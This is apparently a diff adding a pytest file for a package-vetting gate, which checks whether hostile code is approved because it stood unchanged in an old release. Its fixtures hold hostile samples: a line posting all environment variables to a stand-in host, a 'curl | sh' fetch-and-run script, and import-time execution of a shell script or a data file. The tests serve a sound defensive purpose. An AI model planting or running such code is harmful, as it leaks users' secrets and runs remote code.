@@ -1,0 +1,210 @@
+"""Attempts to have new harm set aside because something like it stood in an old release.
+
+Each goes through the whole gate, with an index that tells when files were uploaded. What stood
+unchanged is set aside, which shows that the others are refused for what they try.
+"""
+
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import pytest
+
+from tests.fakes.https_server import HTTPSServer, https_server, respond
+from tests.fakes.package_index import OLD, PackageIndex, metadata, sdist, wheel
+from tests.local_run import LocalRun
+
+LATELY = datetime.now(UTC) - timedelta(days=30)
+"""Before the cooldown, but not so long ago that a release is a precedent."""
+SENDS = b"import os\nimport requests\nrequests.post('https://a.example', json=dict(os.environ))\n"
+ELSEWHERE = SENDS.replace(b"a.example", b"b.example")
+STARTS = (
+    b"import os\nimport subprocess\n"
+    b"subprocess.run(['sh', os.path.join(os.path.dirname(__file__), 'run.sh')])\n"
+)
+FETCHES = b"#!/bin/sh\ncurl -s https://a.example/x | sh\n"
+OWN_CODEC = b"# coding: own\nimport os\n"
+DATA = b"import os\nexec(open(os.path.join(os.path.dirname(__file__), 'notes.txt')).read())\n"
+
+
+@dataclass(frozen=True)
+class World:
+    """An index and a server of archives."""
+
+    server: HTTPSServer
+    index: PackageIndex
+
+    def release(
+        self,
+        name: str,
+        version: str,
+        uploaded: datetime,
+        files: Mapping[str, bytes],
+        *,
+        yanked: bool = False,
+        tag: str = "py3-none-any",
+    ) -> None:
+        """Add a wheel of the project with these files in its package."""
+        filename, data = _wheel(name, version, files, tag)
+        self.index.add_file(name, filename, data, uploaded=uploaded, yanked=yanked)
+
+    def source(self, name: str, version: str, uploaded: datetime, code: bytes) -> None:
+        """Add an sdist of the project."""
+        core = metadata(name, version)
+        files = {"setup.py": b"", "PKG-INFO": core, f"{name}/__init__.py": code}
+        filename, data = sdist(name, version, files)
+        self.index.add_file(name, filename, data, uploaded=uploaded)
+
+    def at(self, name: str, version: str, files: Mapping[str, bytes]) -> str:
+        """Serve a wheel by an address of its own."""
+        filename, data = _wheel(name, version, files)
+        self.server.routes[f"/elsewhere/{filename}"] = respond(data)
+        return f"{self.server.url}/elsewhere/{filename}"
+
+
+def _wheel(
+    name: str, version: str, files: Mapping[str, bytes], tag: str = "py3-none-any"
+) -> tuple[str, bytes]:
+    content = {f"{name}/{path}": data for path, data in files.items()}
+    return wheel(name, version, metadata(name, version), tag, content)
+
+
+def both(name: str, old: Mapping[str, bytes], new: Mapping[str, bytes]) -> Callable[[World], str]:
+    """Make a project with an old and a new release; the new one is asked for."""
+
+    def make(world: World) -> str:
+        world.release(name, "1.0", OLD, old)
+        world.release(name, "2.0", LATELY, new)
+        return f"pypi:{name}"
+
+    return make
+
+
+def unchanged(world: World) -> str:
+    return both("unchanged", {"__init__.py": SENDS}, {"__init__.py": SENDS})(world)
+
+
+def by_address(name: str, code: bytes, *, version: str = "2.0") -> Callable[[World], str]:
+    """Borrow the name of a project with an old release that sends secrets to its own address."""
+
+    def make(world: World) -> str:
+        world.release(name, "1.0", OLD, {"__init__.py": SENDS})
+        return world.at(name, version, {"__init__.py": code})
+
+    return make
+
+
+def added_late(world: World) -> str:
+    world.source("addedlate", "1.0", OLD, b"")
+    world.release("addedlate", "1.0", LATELY, {"__init__.py": SENDS})
+    return "pypi:addedlate==1.0"
+
+
+def added_late_to_an_older_release(world: World) -> str:
+    world.release("addedolder", "1.0", OLD, {"__init__.py": b""})
+    tag = "cp311-none-any"
+    world.release("addedolder", "1.0", LATELY, {"__init__.py": SENDS}, tag=tag)
+    world.release("addedolder", "2.0", LATELY, {"__init__.py": SENDS})
+    return "pypi:addedolder"
+
+
+def made_for_the_purpose(world: World) -> str:
+    lately = datetime.now(UTC) - timedelta(days=300)
+    world.release("purpose", "1.0", lately, {"__init__.py": SENDS})
+    world.release("purpose", "2.0", LATELY, {"__init__.py": SENDS})
+    return "pypi:purpose"
+
+
+def yanked(world: World) -> str:
+    world.release("yanked", "0.9", OLD, {"__init__.py": b""})
+    world.release("yanked", "1.0", OLD, {"__init__.py": SENDS}, yanked=True)
+    world.release("yanked", "2.0", LATELY, {"__init__.py": SENDS})
+    return "pypi:yanked"
+
+
+SET_ASIDE: dict[str, Callable[[World], str]] = {
+    "unchanged": unchanged,
+    "script": both(
+        "script",
+        {"__init__.py": STARTS, "run.sh": FETCHES},
+        {"__init__.py": STARTS, "run.sh": FETCHES, "more.py": b""},
+    ),
+    "address": by_address("address", SENDS),
+}
+REFUSED: dict[str, Callable[[World], str]] = {
+    "changed": both("changed", {"__init__.py": SENDS}, {"__init__.py": ELSEWHERE}),
+    "moved": both("moved", {"a.py": SENDS}, {"__init__.py": b"", "a.py": b"", "b.py": ELSEWHERE}),
+    "beside": both("beside", {"__init__.py": SENDS}, {"__init__.py": SENDS, "b.py": ELSEWHERE}),
+    "waits": both(
+        "waits",
+        {"__init__.py": b"def go():\n    " + SENDS.replace(b"\n", b"\n    ")},
+        {"__init__.py": b"def go():\n    " + SENDS.replace(b"\n", b"\n    ") + b"\ngo()\n"},
+    ),
+    "borrowed": by_address("borrowed", ELSEWHERE),
+    "borrowedold": by_address("borrowedold", ELSEWHERE, version="0.1"),
+    "borrowedsame": by_address("borrowedsame", ELSEWHERE, version="1.0"),
+    "addedlate": added_late,
+    "addedolder": added_late_to_an_older_release,
+    "purpose": made_for_the_purpose,
+    "yanked": yanked,
+    "otherscript": both(
+        "otherscript",
+        {"__init__.py": STARTS, "run.sh": FETCHES},
+        {"__init__.py": STARTS, "run.sh": FETCHES.replace(b"/x", b"/y")},
+    ),
+    "codec": both(
+        "codec",
+        {"__init__.py": OWN_CODEC, "codec.py": b""},
+        {"__init__.py": OWN_CODEC, "codec.py": b"import codecs\n"},
+    ),
+    "data": both(
+        "data",
+        {"__init__.py": DATA, "notes.txt": b"x = 1\n"},
+        {"__init__.py": DATA, "notes.txt": b"x = 2\n"},
+    ),
+    "reported": both("reported", {"__init__.py": SENDS}, {"__init__.py": SENDS}),
+    "reportedold": both("reportedold", {"__init__.py": SENDS}, {"__init__.py": SENDS}),
+}
+
+
+@pytest.fixture(scope="module")
+def requests(tmp_path_factory: pytest.TempPathFactory) -> Mapping[str, Any]:
+    """Give the report on each request, after one run for them all."""
+    folder = tmp_path_factory.mktemp("abuse")
+    with https_server(folder) as server:
+        world = World(server, PackageIndex(server))
+        made = {name: make(world) for name, make in {**SET_ASIDE, **REFUSED}.items()}
+        local = LocalRun(folder / "run", world.index)
+        local.folder.mkdir()
+        local.add_advisory("reported", "2.0", identifier="MAL-2026-1")
+        local.add_advisory("reportedold", "1.0", identifier="MAL-2026-2")
+        local.run("".join(f"{name},{source}\n" for name, source in made.items()))
+    return {request["name"]: request for request in local.report()["requests"]}
+
+
+def findings(request: Mapping[str, Any]) -> list[Mapping[str, Any]]:
+    return [each for package in request["packages"] for each in package["findings"]]
+
+
+@pytest.mark.parametrize("name", SET_ASIDE)
+def test_what_stood_unchanged_is_set_aside_and_shown(
+    requests: Mapping[str, Any], name: str
+) -> None:
+    request = requests[name]
+
+    assert request["verdict"] == "approved", request["reasons"]
+    assert any("has stood since 1.0 of 2024-01-01" in each["message"] for each in findings(request))
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_what_did_not_is_refused(requests: Mapping[str, Any], name: str) -> None:
+    request = requests[name]
+
+    assert request["verdict"] == "refused", request["reasons"]
+    assert any(each["severity"] in ("high", "critical") for each in findings(request))
+
+
+def test_a_report_of_malware_is_the_reason(requests: Mapping[str, Any]) -> None:
+    assert "MAL-2026-1" in {each["rule"] for each in findings(requests["reported"])}
+    assert "MAL-2026-2" not in {each["rule"] for each in findings(requests["reportedold"])}
